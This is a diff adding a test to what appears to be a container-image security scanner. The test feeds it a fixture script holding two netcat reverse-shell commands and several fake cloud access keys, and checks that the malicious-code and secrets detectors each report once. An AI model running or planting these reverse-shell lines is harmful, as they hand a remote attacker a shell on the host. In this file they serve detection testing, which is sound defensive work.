@@ -353,6 +353,13 @@ describe('secrets', () => {
     expect(paths(r, 'secrets').sort()).toEqual(files.map((f) => '/' + f.path));
   });
 
+  it('reports each detector once per file, whatever else the file matched first', async () => {
+    const content = `nc -e /bin/sh 10.0.0.1 4444\nKEY=${AWS}\nnc -e /bin/bash 10.0.0.2 4444\nOBS_SK=${SK}\nKEY2=AKIAQ3MSJV4WWXXJ6ZQG\n`;
+    const r = await check(onBase([layer([{ path: 'opt/setup.sh', content }])], { User: 'work' }));
+    expect(rule(r, 'malicious-code').map((f) => f.path)).toEqual(['/opt/setup.sh']);
+    expect(rule(r, 'secrets').map((f) => f.message.match(/AWS access key|Huawei Cloud secret key/)?.[0])).toEqual(['AWS access key', 'Huawei Cloud secret key']);
+  });
+
   it('ignores documentation examples and placeholders', async () => {
     const r = await check(onBase([layer([{ path: 'opt/README', content: 'export AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE\n' }])], { User: 'work', Env: ['OBS_SK=${OBS_SK}', 'PASSWORD='] }));
     expect(rule(r, 'secrets')).toEqual([]);
